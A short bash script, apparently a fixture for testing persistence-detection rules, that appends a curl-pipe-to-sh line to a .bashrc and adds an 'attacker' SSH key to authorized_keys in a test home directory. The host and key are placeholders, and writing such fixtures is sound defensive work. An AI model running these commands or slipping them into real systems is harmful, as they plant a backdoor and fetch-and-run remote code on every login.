#!/bin/bash
# Persistence: a line appended to the shell's startup file and an SSH
# key authorised (the persistence rules' case), in the corpus' home.
cd "$1"
echo 'curl -s http://127.0.0.1:9/x | sh' >> /home/vigil-corpus/.bashrc
echo 'ssh-ed25519 AAAA attacker' >> /home/vigil-corpus/.ssh/authorized_keys
